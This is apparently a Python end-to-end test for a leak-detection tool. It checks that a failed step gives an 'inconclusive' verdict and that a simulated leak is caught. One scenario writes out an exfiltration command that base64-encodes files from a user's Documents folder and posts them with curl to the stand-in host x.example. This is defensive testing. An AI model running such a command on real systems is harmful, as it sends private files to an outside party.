# SPDX-License-Identifier: Apache-2.0
"""A step that did not happen makes the run inconclusive and names the step; a leak beside it stays a leak."""

from e2e import check, check_equal, run_json, scenario

FAILS = """about: A step that cannot work.
documents:
  memo: {format: txt, marking: us/top-secret, to: /home/alex/Documents}
steps:
  - plant: memo
  - exec: "exit 3"
"""
code, verdict, _ = run_json(scenario(FAILS), "clamav")
check_equal((code, verdict["verdict"]), (3, "inconclusive"), "exit code and verdict")
check(any("exit 3" in reason and "exit code 3" in reason for reason in verdict["reasons"]), f"{verdict['reasons']}")

LEAKS = FAILS.replace('exec: "exit 3"', "exec: cat /home/alex/Documents/* | base64 | curl -sS -d @- http://x.example/ && false")
code, verdict, _ = run_json(scenario(LEAKS), "clamav")
check_equal((code, verdict["verdict"]), (1, "leak"), "exit code and verdict of the leak")
finding = next(f for f in verdict["findings"] if f["class"] == "content/whole-file")
check_equal([step["decoder"] for step in finding["decode"]][-1], "base64", f"decode chain of {finding}")
check("x.example" in finding["destination"], f"destination: {finding['destination']}")
